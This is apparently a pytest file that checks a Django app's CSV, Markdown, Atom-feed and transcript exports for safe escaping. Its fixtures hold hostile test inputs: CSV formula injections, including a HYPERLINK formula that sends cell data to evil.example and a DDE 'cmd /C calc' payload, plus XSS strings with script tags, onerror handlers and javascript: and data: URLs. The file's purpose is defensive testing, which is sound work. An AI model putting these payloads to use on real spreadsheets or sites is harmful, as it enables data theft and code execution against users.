"""Exports are safe in the program that opens them: no CSV cell runs as a formula (and
the import reads the cells back exactly), no Markdown post becomes HTML, a link or an
image, and imported links and pictures keep only what a page may load."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from jamhost.jams.models import Jam
from jamhost.posts.models import Post
from jamhost.transcripts.services import jam_archive
from tests.transcripts.conftest import build_jam
from tests.transcripts.test_import import X_SEARCH, csv_of, run_import

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'=already quoted",
]
# The import trims the text of a row, so these two are checked on the way out only.
SPACED = ["\t=1+1", "\r=1+1"]
MARKUP = [
    "<script>alert(1)</script> and <img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1)) and [ref]: https://evil.example",
    "![tracker](https://evil.example/pixel.png)",
    "<https://evil.example> and &lt;b&gt; and `code` ~~gone~~",
    "# Heading?\n> quote\n- list\n1. numbered",
]


@pytest.fixture
def hostile(db: Any) -> Jam:
    jam = build_jam(title="=cmd|' /C calc'!A0 <b>bold</b>", hashtag="SafeJam")
    last = Post.objects.filter(jam=jam).order_by("-seq").first()
    assert last is not None
    for n, text in enumerate(FORMULAS + SPACED + MARKUP, start=1):
        Post.objects.create(
            jam=jam,
            seq=last.seq + n,
            rev=last.seq + n,
            author_key=f"import:extra{n}",
            author_handle=f"extra{n}",
            author_name="=2+2",
            body=text,
            text=text,
            source="import",
            created_at=last.created_at,
        )
    jam_archive(jam_id=jam.pk)
    return Jam.objects.get(pk=jam.pk)


def test_no_csv_cell_starts_a_formula_and_the_import_reads_them_back(
    client: Any, hostile: Jam, tmp_path: Path
) -> None:
    body = csv_of(client, hostile)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    texts = {row["text"] for row in csv.DictReader(io.StringIO(body))}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in texts
    assert "''=already quoted" in texts  # so that the import can tell it from the above
    assert {"'\t=1+1", "'\r=1+1"} <= texts
    # The two rows whose text starts with a tab or CR are left out: the import trims them.
    body = "".join(f"{row}\r\n" for row in body.split("\r\n")[:-1] if "=1+1" not in row)
    run_import(tmp_path, body.encode(), "--title", "Round trip", "--hashtag", "SafeJam")
    again = Jam.objects.get(title="Round trip")
    stored = set(Post.objects.filter(jam=again).values_list("text", flat=True))
    assert set(FORMULAS) <= stored  # the words as written, not as escaped
    assert csv_of(client, again) == body


def test_the_follow_up_csv_neutralises_names_too(client: Any, hostile: Jam) -> None:
    from jamhost.audience import follows
    from tests.factories import UserFactory

    reader = UserFactory()
    post = Post.objects.filter(jam=hostile, author_name="=2+2").first()
    assert post is not None
    follows.followup_add(jam=hostile, user=reader, author_key=post.author_key)
    client.force_login(reader)
    body = client.get(f"/jams/{hostile.slug}/follow-ups/?format=csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'=2+2" in cells and "'@" + post.author_handle in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_markdown_shows_html_links_and_images_as_text(client: Any, hostile: Jam) -> None:
    body = client.get(f"/jams/{hostile.slug}/transcript.md").content.decode()
    html = MarkdownIt("commonmark").render(body)
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    hrefs = [part.split('"')[0] for part in html.split('href="')[1:]]
    assert hrefs and all(h.startswith("https://x.com/") for h in hrefs), hrefs  # posts' own
    assert "<code>" not in html and "<blockquote>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as written
    assert "[click me](javascript:alert(1))" in html
    assert "![tracker](https://evil.example/pixel.png)" in html


def test_markdown_post_links_are_web_addresses_only(client: Any, db: Any) -> None:
    jam = build_jam(hashtag="LinkJam")
    post = Post.objects.filter(jam=jam, source="x").first()
    assert post is not None
    for link in ("javascript:alert(1)", "https://x.com/a/status/1) [evil](https://evil.example"):
        metrics = {**post.metrics, "link": link}
        Post.objects.filter(pk=post.pk).update(metrics=metrics, external_id="1")
        jam_archive(jam_id=jam.pk)
        html = MarkdownIt("commonmark").render(
            client.get(f"/jams/{jam.slug}/transcript.md").content.decode()
        )
        hrefs = [part.split('"')[0] for part in html.split('href="')[1:]]
        assert all(h.startswith("https://") for h in hrefs), hrefs
        assert "evil.example" not in " ".join(hrefs)


def test_the_atom_feed_sends_descriptions_as_text(client: Any, db: Any) -> None:
    import xml.etree.ElementTree as ET
    from datetime import timedelta

    from django.utils import timezone

    from jamhost.jams.models import JamStatus
    from tests.factories import JamFactory

    JamFactory(
        status=JamStatus.SCHEDULED,
        starts_at=timezone.now() + timedelta(days=1),
        description='<img src=x onerror="alert(1)"> & more',
    )
    root = ET.fromstring(client.get("/feeds/upcoming.atom").content)
    summary = root.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary")
    assert summary is not None and summary.get("type") == "text"
    assert summary.text and summary.text.endswith('<img src=x onerror="alert(1)"> & more')


def test_imported_links_and_pictures_keep_only_what_a_page_may_load(
    client: Any, tmp_path: Path, db: Any
) -> None:
    search = json.loads(json.dumps(X_SEARCH))
    search["data"][0]["entities"]["urls"] += [
        {"url": "https://t.co/j", "expanded_url": "javascript:alert(1)"},
        {"url": "https://t.co/d", "expanded_url": "data:text/html,<script>alert(1)</script>"},
    ]
    search["includes"]["users"][0]["profile_image_url"] = "https://evil.example/track.png"
    search["includes"]["users"][1]["profile_image_url"] = (
        "https://pbs.twimg.com/profile_images/1/ann_normal.jpg"
    )
    search["includes"]["users"][2]["profile_image_url"] = "javascript:alert(1)"
    run_import(tmp_path, json.dumps(search).encode(), "--host-handle", "PodHost", name="x.json")
    posts = {p.author_handle: p for p in Post.objects.filter(jam__hashtag="PodChat")}
    assert posts["ann"].links == ["https://ex.org/pop"]
    assert posts["ann"].author_avatar_url == "https://pbs.twimg.com/profile_images/1/ann_normal.jpg"
    assert posts["PodHost"].author_avatar_url == "" and posts["bob"].author_avatar_url == ""
    # A picture stored from elsewhere before this rule is not shown either.
    Post.objects.filter(pk=posts["bob"].pk).update(author_avatar_url="https://evil.example/x.png")
    jam = posts["bob"].jam
    page = client.get(f"/jams/{jam.slug}/transcript/")
    html = b"".join(page.streaming_content).decode()
    assert "evil.example" not in html and "pbs.twimg.com/profile_images/1/ann_normal.jpg" in html
    csp = page["Content-Security-Policy"]
    assert (
        "img-src 'self' data: https://pbs.twimg.com https://abs.twimg.com https://cdn.bsky.app;"
        in csp
    )
